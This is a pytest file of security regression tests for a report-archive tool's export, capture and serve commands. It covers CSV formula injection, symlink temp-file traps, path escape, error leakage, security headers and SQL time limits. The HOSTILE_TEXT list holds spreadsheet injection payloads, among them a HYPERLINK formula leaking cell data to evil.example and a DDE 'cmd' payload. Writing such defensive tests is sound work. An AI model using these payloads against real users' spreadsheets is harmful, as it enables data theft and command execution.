"""Issue 9, the application side: export, capture and serve under hostile data.

One demo archive (a real crawl of the demo portal) is built per module and served by a real
datasette (`xxgk serve`'s command line); some of its rows and captures are then tampered
with, as a hostile or damaged archive would be. Each test failed before its fix:
findings 8 (CSV formulas), 9 (predictable temp file), 10 (tracebacks), 11 (no security
headers), 12 (Python SQL functions past the time limit).
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import stat
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any, Iterator

import pytest

from conftest import xxgk
from crawler.warc import CaptureNotFound, read_record
from servers import build_demo, running_server

HTTP_TIMEOUT = 30
SECRET_LINE = "SECRET-FIRST-LINE-of-a-file-the-server-must-not-show"


def get(url: str) -> tuple[int, dict[str, str], bytes, float]:
    start = time.monotonic()
    try:
        with urllib.request.urlopen(url, timeout=HTTP_TIMEOUT) as response:
            return response.status, dict(response.headers.items()), response.read(), time.monotonic() - start
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers.items()), exc.read(), time.monotonic() - start


def one_line_error(result) -> None:
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("xxgk: error: "), result.stderr


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("hostile-app") / "demo.db"
    build_demo(db)
    return db


def report_ids(db: Path, n: int) -> list[str]:
    with sqlite3.connect(db) as conn:
        return [r[0] for r in conn.execute(
            "select id from reports where warc_file is not null order by id limit ?", [n])]


@pytest.fixture(scope="module")
def tampered(demo_db: Path, tmp_path_factory) -> dict[str, Any]:
    """A copy of the demo archive with three reports pointing at bad captures: a damaged
    WARC file (garbage whose first line is SECRET_LINE), a path outside the WARC folder,
    and an offset in the middle of a record."""
    folder = tmp_path_factory.mktemp("tampered")
    db = folder / "demo.db"
    shutil.copy(demo_db, db)
    shutil.copytree(demo_db.with_suffix(".warc"), db.with_suffix(".warc"))
    (db.with_suffix(".warc") / "damaged.warc.gz").write_text(SECRET_LINE + "\nmore\n")
    outside = folder / "outside.txt"
    outside.write_text(SECRET_LINE + "\n")
    damaged, escaped, offset = report_ids(db, 3)
    with sqlite3.connect(db) as conn:
        conn.execute("update reports set warc_file = 'damaged.warc.gz', warc_offset = 0 where id = ?", [damaged])
        conn.execute("update reports set warc_file = ?, warc_offset = 0 where id = ?",
                     [os.path.relpath(outside, db.with_suffix(".warc")), escaped])
        conn.execute("update reports set warc_offset = warc_offset + 7 where id = ?", [offset])
    return {"db": db, "damaged": damaged, "escaped": escaped, "offset": offset}


@pytest.fixture(scope="module")
def served(tampered: dict[str, Any]) -> Iterator[dict[str, Any]]:
    with running_server(tampered["db"]) as url:
        yield {**tampered, "url": url}


def server_log(db: Path) -> str:
    return "".join(p.read_text("utf-8", "replace") for p in db.parent.glob("serve-*.log"))


# -- finding 8: CSV formula injection -----------------------------------------------------------
HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+1", "-2+3+cmd|' /C calc'!A0",
                "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "="]
PLAIN_TEXT = ["-1", "+2", "-1.5", "-1,234", "12%", "-", "--", "普通文字", ""]


def formula_db(path: Path) -> Path:
    with sqlite3.connect(path) as conn:
        conn.execute("create table t (txt text, n integer, x real)")
        conn.executemany("insert into t values (?, ?, ?)",
                         [(t, -1, -1.5) for t in HOSTILE_TEXT + PLAIN_TEXT])
    return path


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_export_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    db = formula_db(tmp_path / "f.db")
    done = xxgk("export", "--db", str(db), "--out", str(tmp_path / "out"), "--no-date", timeout=60)
    assert done.returncode == 0, done.stderr
    rows = read_csv(tmp_path / "out" / "t.csv")[1:]
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE_TEXT] + PLAIN_TEXT
    assert {(r[1], r[2]) for r in rows} == {("-1", "-1.5")}  # numbers stay numbers
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
    assert manifest["formulas_neutralised"] is True


def test_export_raw_writes_text_as_stored(tmp_path: Path) -> None:
    db = formula_db(tmp_path / "f.db")
    done = xxgk("export", "--db", str(db), "--out", str(tmp_path / "out"), "--no-date", "--raw", timeout=60)
    assert done.returncode == 0, done.stderr
    assert [r[0] for r in read_csv(tmp_path / "out" / "t.csv")[1:]] == HOSTILE_TEXT + PLAIN_TEXT


# -- finding 9: the metadata file ---------------------------------------------------------------
def test_metadata_goes_to_a_private_new_folder_and_follows_no_symlink(tmp_path: Path, monkeypatch) -> None:
    """Another local user prepares the old shared folder with symlinks at every name the
    metadata could be written to; the serving user's file must stay untouched."""
    from xxgk import serve

    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    victim = tmp_path / "victims-file"
    victim.write_text("precious")
    db = tmp_path / "archive.db"
    trap = shared / "xxgk-archive"
    trap.mkdir()
    digest = __import__("hashlib").sha256(str(db.resolve()).encode()).hexdigest()[:8]
    for name in (f"archive-{digest}.metadata.json", f"archive-{digest}.metadata.json.{os.getpid()}.tmp"):
        (trap / name).symlink_to(victim)
    first = serve.write_metadata(db)
    second = serve.write_metadata(db)
    assert victim.read_text() == "precious"
    assert first.parent != second.parent and trap not in first.parents
    for path in (first, second):
        mode = path.parent.stat()
        assert stat.S_IMODE(mode.st_mode) == 0o700 and mode.st_uid == os.getuid()
        assert not path.is_symlink()
        assert json.loads(path.read_text("utf-8"))["databases"]["archive"]


# -- finding 10: one line, never a traceback ----------------------------------------------------
def test_export_out_pointing_at_a_file(tmp_path: Path) -> None:
    db = formula_db(tmp_path / "f.db")
    target = tmp_path / "a-file"
    target.write_text("x")
    one_line_error(xxgk("export", "--db", str(db), "--out", str(target), timeout=60))
    one_line_error(xxgk("export", "--db", str(db), "--out", str(target / "sub"), timeout=60))


@pytest.mark.parametrize("command", [["export", "--out", "OUT"], ["capture", "0123456789abcdef"], ["serve"]])
def test_a_file_that_is_not_sqlite(command, tmp_path: Path) -> None:
    bogus = tmp_path / "notes.db"
    bogus.write_text("this is not a database\n" * 100)
    args = [a.replace("OUT", str(tmp_path / "out")) for a in command]
    one_line_error(xxgk(*args, "--db", str(bogus), timeout=60))


def test_capture_of_damaged_or_misplaced_warc(tampered: dict[str, Any]) -> None:
    for key in ("damaged", "escaped", "offset"):
        result = xxgk("capture", tampered[key], "--db", str(tampered["db"]), timeout=60)
        one_line_error(result)
        assert SECRET_LINE not in result.stderr + result.stdout
        assert str(tampered["db"].parent) not in result.stderr, result.stderr  # no server path


def test_no_capture_read_from_inside_a_record(demo_db: Path) -> None:
    """An offset inside a gzip member can decode as a junk 'record' with no target URI (about 1
    in 12 of the demo's larger pages, shifted by 1, 7 or 50 bytes): it must be an error."""
    with sqlite3.connect(demo_db) as conn:
        rows = conn.execute("select warc_file, warc_offset from reports where warc_file is not null").fetchall()
    assert len(rows) > 50
    for warc_file, offset in rows:
        path = str(demo_db.with_suffix(".warc") / warc_file)
        assert read_record(path, offset)[0].startswith("http")
        for shift in (1, 7, 50):
            with pytest.raises(CaptureNotFound):
                read_record(path, offset + shift)


def test_original_of_damaged_warc_is_a_clean_404(served: dict[str, Any]) -> None:
    for key in ("damaged", "escaped", "offset"):
        status, _headers, body, _ = get(f"{served['url']}/-/xxgk/report/{served[key]}/original")
        assert status == 404, (key, status, body[:300])
        text = body.decode("utf-8", "replace")
        assert SECRET_LINE not in text and str(served["db"].parent) not in text, text
    log = server_log(served["db"])
    assert SECRET_LINE not in log and "Traceback" not in log


def test_chart_with_an_absurd_year(served: dict[str, Any]) -> None:
    for year in ("99999999999999999999", "-99999999999999999999", "1e9", "0"):
        for page in ("chart", "chart.json"):
            status, _h, body, _ = get(f"{served['url']}/-/xxgk/{page}?indicator=applications_received&year={year}")
            assert status == 400, (page, year, status, body[:300])
            assert b"year" in body


def test_nul_byte_in_search(served: dict[str, Any]) -> None:
    for query in ("\x00", "复议\x00", 'a"\x00"b', "\x00\x01\x1f"):
        q = urllib.parse.quote(query)
        status, _h, body, _ = get(f"{served['url']}/demo/reports.json?_search={q}&_shape=objects")
        assert status == 200, (query, status, body[:300])
        assert isinstance(json.loads(body)["rows"], list)
        status, _h, body, _ = get(f"{served['url']}/demo/search.json?q={q}&_shape=objects")
        assert status == 200, (query, status, body[:300])


# -- finding 11: security headers ---------------------------------------------------------------
def html_pages(served: dict[str, Any]) -> list[str]:
    report = report_ids(served["db"], 4)[3]
    with sqlite3.connect(served["db"]) as conn:
        agency = conn.execute("select agency from reports where agency is not null limit 1").fetchone()[0]
    return ["/", "/demo", "/demo/reports", f"/demo/reports/{report}", "/demo/cells?_facet=unit",
            "/demo/search?q=复议", "/demo?sql=select+1", "/-/xxgk/agencies",
            f"/-/xxgk/report/{report}", f"/-/xxgk/report/{report}/original", f"/-/xxgk/agency/{urllib.parse.quote(agency)}",
            "/-/xxgk/chart?indicator=applications_received", "/no-such-page",
            "/-/xxgk/report/0000000000000000"]


def test_security_headers_on_every_html_page(served: dict[str, Any]) -> None:
    for path in html_pages(served):
        status, headers, body, _ = get(served["url"] + urllib.parse.quote(path, safe="/?=&+%"))
        headers = {k.lower(): v for k, v in headers.items()}
        assert headers.get("content-type", "").startswith("text/html"), (path, headers)
        csp = headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp, (path, csp)
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert headers.get("x-frame-options") == "DENY", path
        assert headers.get("x-content-type-options") == "nosniff", path
    # The archived bytes run nothing on this origin: sandboxed, framed only by this server's
    # own banner page (/original, an ordinary page checked above), or by nobody (raw).
    report = report_ids(served["db"], 4)[3]
    for part, ancestors in (("page", "frame-ancestors 'self'"), ("raw", "frame-ancestors 'none'")):
        status, headers, _body, _ = get(f"{served['url']}/-/xxgk/report/{report}/original/{part}")
        assert status == 200, part
        csp = {k.lower(): v for k, v in headers.items()}["content-security-policy"]
        assert csp.startswith("sandbox") and ancestors in csp, (part, csp)


# -- finding 12: Python SQL functions and the time limit ------------------------------------------
def test_sql_functions_cap_their_input() -> None:
    """Past each cap the text is not read: a hit only beyond it is not found (deterministic;
    the time it saves is measured over HTTP below)."""
    from storage import search

    conn = sqlite3.connect(":memory:")
    search.register_functions(conn)
    search.register_query_functions(conn)
    one = lambda sql, *args: conn.execute(sql, args).fetchone()[0]  # noqa: E731
    marked = one("select xxgk_mark(hex(zeroblob(10000000)), '0')")
    assert len(marked) <= 14 * search.MAX_MARK_CHARS
    beyond_scan = "a" * search.MAX_SCAN_CHARS + "复议"
    assert "<mark>" not in one("select xxgk_snippet('复议', ?, '', '', '')", beyond_scan)
    assert "<mark>" in one("select xxgk_snippet('复议', ?, '', '', '')", beyond_scan[-1000:])
    assert one("select xxgk_has_keys('A12', ?, '', '', '')", "a" * search.MAX_SCAN_CHARS + " A12") == 0
    late = "字".encode().hex()
    assert late not in one(f"select {search.GRAMS_FUNCTION}('', '', '', ?)", "a" * search.MAX_GRAMS_CHARS + "字")
    assert late in one(f"select {search.GRAMS_FUNCTION}('', '', '', ?)", "a" * 10 + "字")
    long_query = "x " * search.MAX_QUERY_CHARS + "复议"
    assert one("select xxgk_terms(?, 'grams')", long_query) == 1  # x; 复议 lies past the cap


def test_sql_function_on_twenty_million_characters_stays_within_the_time_limit(served: dict[str, Any]) -> None:
    sql = "select length(xxgk_mark(hex(zeroblob(10000000)), '0')) as n"
    status, _h, body, elapsed = get(f"{served['url']}/demo.json?_shape=objects&sql={urllib.parse.quote(sql)}")
    assert status == 200, body[:300]
    assert json.loads(body)["rows"][0]["n"] <= 14 * 200_000
    assert elapsed < 5.0, elapsed  # datasette's sql_time_limit_ms is 5000; uncapped it ran 7.5 s
